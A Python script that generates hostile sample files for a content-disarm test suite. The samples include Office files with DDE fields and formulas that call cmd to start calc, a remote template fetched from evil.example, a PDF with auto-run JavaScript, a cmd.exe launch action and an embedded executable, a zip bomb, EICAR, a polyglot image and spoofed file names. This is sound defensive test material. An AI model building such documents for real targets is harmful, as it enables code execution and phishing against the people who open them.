#!/usr/bin/env python3
"""Hand-made samples for tests/integration/cdr.sh, written into DIR: Office documents with
macros, remote templates, DDE, OLE objects and ActiveX; images with metadata, a polyglot;
archives (a zip bomb, a nested zip with EICAR, a password-protected zip); CP932 CSV with
formulas; hostile names. EICAR is assembled here, at test time."""
import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib

d = sys.argv[1]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def types(defaults, overrides):
    x = HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    x += '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    x += '<Default Extension="xml" ContentType="application/xml"/>'
    for ext, ct in defaults:
        x += f'<Default Extension="{ext}" ContentType="{ct}"/>'
    for part, ct in overrides:
        x += f'<Override PartName="{part}" ContentType="{ct}"/>'
    return x + "</Types>"


def rels(items):
    x = HEAD + f'<Relationships xmlns="{PR}">'
    for rid, typ, target, ext in items:
        x += f'<Relationship Id="{rid}" Type="{R}/{typ}" Target="{target}"' + (' TargetMode="External"' if ext else "") + "/>"
    return x + "</Relationships>"


def package(path, parts):
    with zipfile.ZipFile(os.path.join(d, path), "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


# A JPEG with GPS and a comment; a JPEG+ZIP polyglot; a JPEG named .pdf.
photo = os.path.join(d, "photo.jpg")
subprocess.run(["vips", "black", photo, "64", "48"], check=True)
subprocess.run(["exiftool", "-q", "-overwrite_original", "-GPSLatitude=35.68", "-GPSLatitudeRef=N",
                "-GPSLongitude=139.76", "-GPSLongitudeRef=E", "-Comment=secret place", photo], check=True)
jpeg = open(photo, "rb").read()
# A Word document with a macro, a remote template, a DDEAUTO field and a photo with GPS.
package("見積書.docm", {
    "[Content_Types].xml": types([("bin", "application/vnd.ms-office.vbaProject"), ("jpg", "image/jpeg")], [
        ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")]),
    "_rels/.rels": rels([("rId1", "officeDocument", "word/document.xml", False)]),
    "word/document.xml": HEAD + f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
        '<w:p><w:r><w:t>見積書の本文です。</w:t></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p></w:body></w:document>',
    "word/_rels/document.xml.rels": rels([
        ("rId1", "vbaProject", "vbaProject.bin", False), ("rId2", "settings", "settings.xml", False),
        ("rId9", "hyperlink", "https://example.jp/", True), ("rId4", "image", "media/image1.jpg", False)]),
    "word/media/image1.jpg": jpeg,
    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 50,
    "word/settings.xml": HEAD + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
    "word/_rels/settings.xml.rels": rels([("rId1", "attachedTemplate", "http://evil.example/template.dotm", True)]),
})

# A workbook with a macro, an external (DDE) link and a formula that calls cmd.
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
package("集計.xlsm", {
    "[Content_Types].xml": types([("bin", "application/vnd.ms-office.vbaProject")], [
        ("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
        ("/xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")]),
    "_rels/.rels": rels([("rId1", "officeDocument", "xl/workbook.xml", False)]),
    "xl/workbook.xml": HEAD + f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>',
    "xl/_rels/workbook.xml.rels": rels([
        ("rId1", "worksheet", "worksheets/sheet1.xml", False), ("rId2", "vbaProject", "vbaProject.bin", False),
        ("rId3", "externalLink", "externalLinks/externalLink1.xml", False)]),
    "xl/worksheets/sheet1.xml": HEAD + f'<worksheet xmlns="{S}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>合計</t></is></c><c r="B1"><v>100</v></c></row>'
        '<row r="2"><c r="A2"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData></worksheet>',
    "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Workbook_Open" * 50,
    "xl/externalLinks/externalLink1.xml": HEAD + f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
})

# A presentation with an OLE object and an ActiveX control.
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
package("説明.pptx", {
    "[Content_Types].xml": types([("bin", "application/vnd.openxmlformats-officedocument.oleObject")], [
        ("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        ("/ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")]),
    "_rels/.rels": rels([("rId1", "officeDocument", "ppt/presentation.xml", False)]),
    "ppt/presentation.xml": HEAD + f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst/></p:presentation>',
    "ppt/_rels/presentation.xml.rels": rels([("rId5", "oleObject", "embeddings/oleObject1.bin", False),
                                             ("rId6", "control", "activeX/activeX1.xml", False)]),
    "ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
    "ppt/activeX/activeX1.xml": HEAD + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
})

zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w") as z:
    z.writestr("payload.js", "WScript.Shell")
open(os.path.join(d, "polyglot.jpg"), "wb").write(jpeg + zbuf.getvalue())
open(os.path.join(d, "scan.pdf"), "wb").write(jpeg)


# A PNG with a tEXt chunk; a GIF with a comment.
def chunk(t, data):
    return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)


raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
png += chunk(b"tEXt", b"Comment\x00hidden text") + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
open(os.path.join(d, "chart.png"), "wb").write(png)
gif = os.path.join(d, "anim.gif")
subprocess.run(["vips", "black", gif, "8", "8"], check=True)
subprocess.run(["exiftool", "-q", "-overwrite_original", "-Comment=secret", gif], check=True)

# Archives: a bomb, a nested zip with EICAR, a password-protected zip (PPAP).
with zipfile.ZipFile(os.path.join(d, "bomb.zip"), "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("zeros.txt", b"0" * (200 << 20))
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as z:
    z.writestr("eicar.com", EICAR)
    z.writestr("memo.txt", "メモ".encode())
with zipfile.ZipFile(os.path.join(d, "nested.zip"), "w") as z:
    z.writestr("inner.zip", inner.getvalue())
    z.writestr("表.csv", "名前,式\r\n田中,=cmd|' /C calc'!A0\r\n".encode("cp932"))
work = os.path.join(d, "..", "ppap")
os.makedirs(work, exist_ok=True)
open(os.path.join(work, "data.csv"), "w").write("a,b\n=1+1,2\n")
subprocess.run(["zip", "-q", "-j", "-P", "himitsu", os.path.join(d, "ppap.zip"),
                os.path.join(work, "data.csv")], check=True)

# Text: a CP932 CSV with formulas; an empty file; a PDF (no converter yet).
open(os.path.join(d, "請求書.csv"), "wb").write(
    '品名,金額,備考\r\n①号機,1000,"=HYPERLINK(""http://evil.example"")"\r\n㈱テスト,-500,@SUM(A1)\r\n'.encode("cp932"))
open(os.path.join(d, "empty.txt"), "wb").close()
open(os.path.join(d, "real.pdf"), "wb").write(b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(2))>>]>>/EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A<</S/Launch/F(cmd.exe)>>>><</Type/Annot/Subtype/Link/Rect[50 50 90 90]/A<</S/URI/URI(http://evil.example/)>>>>]/AA<</O<</S/JavaScript/JS(app.alert(3))>>>>>>endobj
4 0 obj<</Length 44>>stream
BT /F1 18 Tf 20 100 Td (Mitsumori 2026) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
6 0 obj<</Type/EmbeddedFile/Length 4>>stream
MZxx
endstream endobj
trailer<</Root 1 0 R/Size 7>>
%%EOF
""")

# Hostile names.
open(os.path.join(d, "invoice\u202egpj.exe"), "wb").write(b"MZ\x90\x00" + b"\x00" * 100)
open(os.path.join(d, "請求書.pdf.exe"), "wb").write(b"MZ\x90\x00" + b"\x00" * 100)
